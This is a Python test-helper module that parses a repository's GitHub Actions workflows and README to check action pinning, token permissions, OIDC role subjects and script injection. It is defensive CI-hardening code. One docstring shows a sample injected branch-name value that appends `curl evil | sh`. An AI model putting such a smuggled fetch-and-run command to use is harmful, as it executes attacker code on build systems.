"""Readers of the GitHub Actions workflows (.github/workflows/) and of the README, shared by the workflow tests.

Plain functions, no tests: they load workflows, expand matrix entries, split `run:` scripts into
commands, read the tables and lists of the README's Operating it section, and work out which roles
jobs assume, how actions are pinned, what each job's token is granted against what its steps need,
and which expressions are pasted into scripts. test_workflows.py, test_workflows_least_privilege.py
and test_workflow_linters.py assert on what they return; the checkers have table tests there.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import os
import re
import shlex
import subprocess
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Iterator

import pytest
import yaml

from modelctl.cli import build_parser


ROOT = Path(__file__).resolve().parent.parent
WORKFLOWS = ROOT / ".github" / "workflows"
README = ROOT / "README.md"


def operating_section() -> str:
    """The README's "## Operating it" section, up to the next second-level heading."""
    text = README.read_text()
    start = text.index("\n## Operating it\n") + 1
    end = text.find("\n## ", start + 1)
    return text[start:] if end < 0 else text[start : end + 1]


#: The reusable workflow that runs each Pulumi command on one stack. Two files, not one with a command
#: input: GitHub checks a called job's permissions against its caller's before the run starts, and only
#: the preview needs `pull-requests: write` (it comments on the pull request).
STACK_WORKFLOWS = {"preview": "./.github/workflows/pulumi-preview.yml", "up": "./.github/workflows/pulumi-up.yml"}
PROJECT = "model-platform"
INSTALL_TOOLS = ROOT / "scripts" / "install-tools.sh"

WORKFLOW_FILES = sorted(WORKFLOWS.glob("*.yml")) + sorted(WORKFLOWS.glob("*.yaml"))
STACKS = sorted(p.name[len("Pulumi."):-len(".yaml")] for p in (ROOT / "stacks").glob("Pulumi.*.yaml"))


# --- reading workflows --------------------------------------------------------------------


def load(path: Path) -> dict[str, Any]:
    return yaml.safe_load(path.read_text())


def workflow(name: str) -> dict[str, Any]:
    return load(WORKFLOWS / name)


def triggers(doc: dict[str, Any]) -> dict[str, Any]:
    """The `on:` block (YAML 1.1 reads the bare key `on` as True)."""
    on = doc.get("on", doc.get(True))
    return on if isinstance(on, dict) else {name: {} for name in ([on] if isinstance(on, str) else on)}


def steps(doc: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    for job_id, job in doc["jobs"].items():
        for step in job.get("steps", []):
            yield job_id, step


def action_name(uses: str) -> str:
    """`pulumi/actions@v7` -> `pulumi/actions`."""
    return uses.split("@", 1)[0]


def called_workflow(uses: str) -> dict[str, Any]:
    """The workflow a job calls with `uses: ./.github/workflows/NAME.yml`."""
    return load(ROOT / uses)


def local_calls() -> list[tuple[str, str, dict[str, Any]]]:
    """(workflow file, job id, job) of every job that calls a reusable workflow of this repository."""
    return [(path.name, job_id, job) for path in WORKFLOW_FILES for job_id, job in load(path)["jobs"].items()
            if str(job.get("uses", "")).startswith("./")]


def stack_jobs(doc: dict[str, Any], command: str) -> dict[str, dict[str, Any]]:
    """Jobs running the Pulumi `command` through its reusable workflow, by stack (matrix entries expanded)."""
    found: dict[str, dict[str, Any]] = {}
    for job in doc["jobs"].values():
        if job.get("uses") != STACK_WORKFLOWS[command]:
            continue
        entries = job.get("strategy", {}).get("matrix", {}).get("include") or [{}]
        for entry in entries:
            args = {k: _matrix_value(v, entry) for k, v in job["with"].items()}
            found[args["stack"]] = {"job": job, "with": args}
    return found


def _matrix_value(value: Any, entry: dict[str, Any]) -> Any:
    m = re.fullmatch(r"\$\{\{\s*matrix\.([\w-]+)\s*\}\}", str(value))
    return entry[m.group(1)] if m else value


def stack_environment(stack: str) -> str:
    doc = yaml.safe_load((ROOT / "stacks" / f"Pulumi.{stack}.yaml").read_text())
    return doc["config"][f"{PROJECT}:environment"]


# --- reading shell scripts ----------------------------------------------------------------


_OPERATORS = {"|", "||", "&&", ";", "&", "(", ")", ";;"}
_KEYWORDS = {"if", "then", "elif", "else", "fi", "do", "done", "while", "until", "!", "{", "}", "time"}


def shell_commands(script: str) -> list[list[str]]:
    """Each simple command of a shell script as argv, shell variables replaced by `x`.

    Heredoc bodies are skipped; commands are split at ;, |, &&, || and keywords such as `then`.
    """
    lines: list[str] = []
    heredoc_end: str | None = None
    pending = ""
    for raw in script.splitlines():
        if heredoc_end is not None:
            if raw.strip() == heredoc_end:
                heredoc_end = None
            continue
        m = re.search(r"(?<!<)<<-?(?!<)\s*['\"]?(\w+)['\"]?", raw)  # a heredoc, not a <<< here-string
        if m:
            heredoc_end = m.group(1)
        line = pending + raw
        if line.rstrip().endswith("\\"):
            pending = line.rstrip()[:-1] + " "
            continue
        pending = ""
        lines.append(line)
    commands: list[list[str]] = []
    for line in lines:
        lexer = shlex.shlex(_drop_redirections(_substitute_variables(line)), posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        lexer.commenters = "#"
        current: list[str] = []
        for token in lexer:
            if token in _OPERATORS or (not current and token in _KEYWORDS):
                if current:
                    commands.append(current)
                current = []
            else:
                current.append(token)
        if current:
            commands.append(current)
    return commands


def _substitute_variables(line: str) -> str:
    return re.sub(r"\$\{?[A-Za-z_][A-Za-z0-9_]*\}?", "x", line)


def _drop_redirections(line: str) -> str:
    """`cmd > "file" 2>&1` -> `cmd`: a redirection and its target are no arguments (heredocs are left alone)."""
    return re.sub(r"""(?:(?<=\s)|^)\d*(?:>>|>&|&>|>|<(?![<(]))\s*(?:"[^"]*"|'[^']*'|[^\s;|&)]+)""", " ", line)


def run_scripts(path: Path) -> list[tuple[str, str]]:
    """(where, script) of every `run:` step of a workflow."""
    return [(f"{path.name}:{job_id}:{step.get('name', step['run'][:40])}", step["run"])
            for job_id, step in steps(load(path)) if "run" in step]


def invocations(tool: str) -> list[tuple[str, list[str]]]:
    """Every `modelctl ...` / `make ...` command the workflows run, with where it runs."""
    found = []
    for path in WORKFLOW_FILES:
        for where, script in run_scripts(path):
            for argv in shell_commands(script):
                if Path(argv[0]).name == tool:
                    found.append((where, argv))
    return found


def doc_invocations(tool: str) -> list[list[str]]:
    """Every `modelctl ...` command in the shell code blocks of the README's Operating it section."""
    blocks = re.findall(r"```(?:sh|bash|shell)\n(.*?)```", operating_section(), re.S)
    return [argv for block in blocks for argv in shell_commands(block) if Path(argv[0]).name == tool]


def modelctl_subcommands() -> set[str]:
    parser = build_parser()
    sub = next(a for a in parser._actions if isinstance(a, argparse._SubParsersAction))
    return set(sub.choices)


def parse_modelctl(argv: list[str]) -> None:
    """Parse a modelctl command line as `modelctl` would; fail the test with argparse's message."""
    stderr = io.StringIO()
    try:
        with contextlib.redirect_stderr(stderr):
            build_parser().parse_args(argv[1:])
    except SystemExit:
        pytest.fail(f"`{shlex.join(argv)}` is not a valid modelctl command line: {stderr.getvalue().strip()}")


def makefile_targets() -> set[str]:
    text = (ROOT / "Makefile").read_text()
    return {m.group(1) for m in re.finditer(r"^([A-Za-z0-9][\w.-]*)\s*:(?!=)", text, re.M)}


# --- reading the README's Operating it section --------------------------------------------


def referenced(kind: str) -> set[str]:
    pattern = re.compile(rf"\b{kind}\.([A-Za-z_][A-Za-z0-9_]*)")
    return {m for path in WORKFLOW_FILES for m in pattern.findall(path.read_text())}


def documented_settings() -> set[str]:
    """Names in the first column of the tables of the README's Operating it section (| `NAME` | ...)."""
    return set(re.findall(r"^\|\s*`([A-Z][A-Z0-9_]+)`\s*\|", operating_section(), re.M))


def readme_bullets() -> list[str]:
    """The bullet items of the README's Operating it section (`- ...` and its indented lines), each one line."""
    return [" ".join(item.split()) for item in re.findall(r"^- (.*(?:\n  .*)*)", operating_section(), re.M)]


def main_only_environments() -> set[str]:
    """The GitHub environments the README tells users to limit to the `main` branch."""
    return {name for item in readme_bullets() if "limited to the `main` branch" in item
            for name in re.findall(r"`([\w-]+)`", item.partition(":")[0]) if name != "main"}


def documented_trust() -> dict[str, set[str]]:
    """The README's role table: variable -> trusted subjects (`repo:OWNER/REPO:` stripped)."""
    found: dict[str, set[str]] = {}
    for line in operating_section().splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split("|")]
        m = re.fullmatch(r"`(AWS_ROLE_ARN_\w+)`", cells[0]) if len(cells) >= 4 else None
        if m and "repo:" in cells[2]:
            found[m.group(1)] = set(re.findall(r"`repo:[\w.-]+/[\w.-]+:([^`]+)`", cells[2]))
    return found


# --- the roles jobs assume, by OIDC subject -----------------------------------------------


def role_subjects() -> dict[str, set[str]]:
    """Repository variable of each assumed role -> the OIDC `sub` suffixes of the jobs that assume it."""
    found: dict[str, set[str]] = {}
    for path in WORKFLOW_FILES:
        doc = load(path)
        if "workflow_call" in triggers(doc):
            continue  # assumes the role its caller names: counted at the call
        for job_id, job in doc["jobs"].items():
            for role, environment in _assumed_roles(job):
                name = re.fullmatch(r"\$\{\{\s*vars\.(\w+)\s*\}\}", role)
                assert name, f"{path.name}:{job_id}: role {role!r} is not a repository variable"
                found.setdefault(name.group(1), set()).add(_subject(doc, job, environment, f"{path.name}:{job_id}"))
    return found


def _assumed_roles(job: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """(role expression, GitHub environment) of each role a job assumes, matrix entries expanded."""
    if job.get("uses") in STACK_WORKFLOWS.values():
        for entry in job.get("strategy", {}).get("matrix", {}).get("include") or [{}]:
            args = {k: _matrix_value(v, entry) for k, v in job["with"].items()}
            yield args["aws-role-arn"], args.get("environment", "")
    for step in job.get("steps", []):
        if action_name(step.get("uses", "")) == "aws-actions/configure-aws-credentials":
            yield step["with"]["role-to-assume"], job.get("environment", "")


def _subject(doc: dict[str, Any], job: dict[str, Any], environment: str, where: str) -> str:
    """The `sub` claim after `repo:OWNER/REPO:` (GitHub's default subject format)."""
    if environment:
        return f"environment:{environment}"
    if "github.ref == 'refs/heads/main'" in str(job.get("if", "")):
        return "ref:refs/heads/main"
    if "pull_request" in triggers(doc):
        return "pull_request"
    pytest.fail(f"{where}: cannot tell the OIDC subject of this job")


# --- least privilege: actions pinned to commits -------------------------------------------


_USES_LINE = re.compile(r"""^\s*(?:-\s+)?uses:\s*["']?(?P<ref>[^\s"'#]+)["']?\s*(?:#\s*(?P<comment>.*?)\s*)?$""")
_PINNED = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}")
_RELEASE = re.compile(r"v\d+\.\d+\.\d+")


@dataclass(frozen=True)
class Uses:
    """One `uses:` line of a workflow file, with its comment (YAML parsers drop comments)."""

    line: int
    ref: str
    comment: str


def uses_lines(text: str) -> list[Uses]:
    return [Uses(number, m.group("ref"), m.group("comment") or "")
            for number, line in enumerate(text.splitlines(), 1) if (m := _USES_LINE.match(line))]


def pinning_problems(text: str, where: str) -> list[str]:
    """How a workflow's remote actions and workflows are not pinned.

    A tag or branch can be moved to other code by whoever controls (or compromises) the action's
    repository; a full commit SHA cannot. The release it is, `# vX.Y.Z`, goes beside it for readers
    and for Dependabot, which updates both.
    """
    problems = []
    for uses in uses_lines(text):
        if uses.ref.startswith("./"):
            continue
        if not _PINNED.fullmatch(uses.ref):
            problems.append(f"{where}:{uses.line}: {uses.ref} is not pinned to a full commit SHA")
        elif not _RELEASE.fullmatch(uses.comment):
            problems.append(f"{where}:{uses.line}: {uses.ref} needs its release beside it: `# vX.Y.Z`")
    return problems


def yaml_uses(doc: dict[str, Any]) -> list[str]:
    """Every `uses:` of a parsed workflow: called workflows and steps."""
    return [job["uses"] for job in doc["jobs"].values() if "uses" in job] + [s["uses"] for _, s in steps(doc) if "uses" in s]


# --- least privilege: each job is granted exactly what its steps need ---------------------


_LEVELS = {"none": 0, "read": 1, "write": 2}

#: What each action needs of the job's GITHUB_TOKEN (its documentation); pulumi/actions needs
#: `pull-requests: write` only to comment (comment-on-pr). A new action fails the tests until added.
ACTION_NEEDS: dict[str, dict[str, str]] = {
    "actions/checkout": {"contents": "read"},
    "actions/setup-python": {},
    "actions/setup-go": {},
    "aws-actions/configure-aws-credentials": {"id-token": "write"},  # the OIDC token it exchanges for a role
    "pulumi/actions": {},
    "peter-evans/create-pull-request": {"contents": "write", "pull-requests": "write"},
}

#: `gh api` endpoints the scripts call (shell variables read as `x`), and what each needs.
GH_API_NEEDS = {r"repos/\S+?/deployments\b": ("deployments", "read")}


def grants(permissions: Any) -> dict[str, str]:
    """A `permissions:` block as {scope: read|write} (`none` dropped); `read-all`/`write-all` are refused."""
    assert isinstance(permissions, dict), f"`permissions: {permissions}`: name each scope"
    return {scope: level for scope, level in permissions.items() if level != "none"}


def merged(*needs: dict[str, str]) -> dict[str, str]:
    out: dict[str, str] = {}
    for need in needs:
        for scope, level in need.items():
            if _LEVELS[level] > _LEVELS[out.get(scope, "none")]:
                out[scope] = level
    return out


def step_needs(step: dict[str, Any]) -> dict[str, str]:
    if "uses" in step:
        name = action_name(step["uses"])
        assert name in ACTION_NEEDS, f"{name}: add what it needs of the token to ACTION_NEEDS"
        comments = name == "pulumi/actions" and step.get("with", {}).get("comment-on-pr") is True
        return merged(ACTION_NEEDS[name], {"pull-requests": "write"} if comments else {})
    needs: dict[str, str] = {}
    for argv in shell_commands(step.get("run", "")):
        if Path(argv[0]).name != "gh":
            continue
        endpoint = argv[2] if argv[1:2] == ["api"] and len(argv) > 2 else ""
        known = [need for pattern, need in GH_API_NEEDS.items() if re.match(pattern, endpoint)]
        assert known, f"`{shlex.join(argv)}`: add what it needs to GH_API_NEEDS"
        needs = merged(needs, dict(known))
    return needs


def job_needs(job: dict[str, Any], load_called) -> dict[str, str]:
    """What a job's steps need; for a job that calls a workflow, what the called jobs are granted."""
    if "uses" in job:
        return merged(*(grants(called.get("permissions", {})) for called in load_called(job["uses"])["jobs"].values()))
    return merged(*(step_needs(step) for step in job.get("steps", [])))


def permission_problems(doc: dict[str, Any], where: str, load_called=called_workflow) -> list[str]:
    """How a workflow grants its token more (or less) than its jobs need.

    The workflow level grants nothing that writes (`{}` here), so a job added without `permissions:`
    gets nothing by accident; each job grants exactly what its steps need. A called workflow's job may
    not ask for more than its calling job grants: GitHub refuses to start such a run, whatever the `if:`.
    """
    problems = []
    top = doc.get("permissions")
    if top is None:
        problems.append(f"{where}: set `permissions:` at the workflow level: {{}} or read-only")
    elif not isinstance(top, dict) or "write" in top.values():
        problems.append(f"{where}: the workflow level grants `{top}`: grant writes per job")
    for job_id, job in doc["jobs"].items():
        if not isinstance(job.get("permissions"), dict):
            problems.append(f"{where}:{job_id}: set the job's `permissions:` (scope: level)")
            continue
        granted, needed = grants(job["permissions"]), job_needs(job, load_called)
        if granted != needed:
            problems.append(f"{where}:{job_id}: grants {granted}, its steps need {needed}")
        for called_id, called in (load_called(job["uses"])["jobs"].items() if "uses" in job else []):
            asked = grants(called.get("permissions", {}))
            over = {s: lvl for s, lvl in asked.items() if _LEVELS[lvl] > _LEVELS[granted.get(s, "none")]}
            if over:
                problems.append(f"{where}:{job_id}: the called job {called_id} asks for {over}, more than this job grants")
    return problems


# --- least privilege: no expression pasted into a script ----------------------------------


_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.S)


def script_expressions(doc: dict[str, Any]) -> list[tuple[str, str]]:
    """(where, expression) of every `${{ }}` in a script: a `run:`, or actions/github-script's `script:`.

    GitHub pastes an expression's value into the script's text before the shell reads it, so a branch
    name, pull request title or workflow input such as `x"; curl evil | sh; "` becomes code. Values reach
    scripts through `env:` and are quoted, "$VAR". No allow-list of safe contexts: a value that is
    trusted today (a matrix entry, a step output) is one edit away from carrying untrusted text.
    """
    found = []
    for job_id, job in doc.get("jobs", {}).items():
        for index, step in enumerate(job.get("steps", [])):
            scripts = [step.get("run")]
            if action_name(step.get("uses", "")) == "actions/github-script":
                scripts.append(step.get("with", {}).get("script"))
            for script in filter(None, scripts):
                found += [(f"{job_id}:{step.get('name', index)}", m.group(1).strip()) for m in _EXPRESSION.finditer(str(script))]
    return found


# --- scratch git repositories -------------------------------------------------------------


def git_env(home: Path) -> dict[str, str]:
    """A git environment independent of the user's configuration."""
    return {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home),
        "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "ci", "GIT_AUTHOR_EMAIL": "ci@example.com",
        "GIT_COMMITTER_NAME": "ci", "GIT_COMMITTER_EMAIL": "ci@example.com",
    }


def git_runner(repo: Path, env: dict[str, str], init: bool = False):
    """`git(*args) -> stdout` in `repo`; `init` creates the repository."""
    def git(*args: str) -> str:
        return subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True, text=True).stdout.strip()

    if init:
        repo.mkdir(parents=True, exist_ok=True)
        git("init", "-q", "-b", "main")
    return git
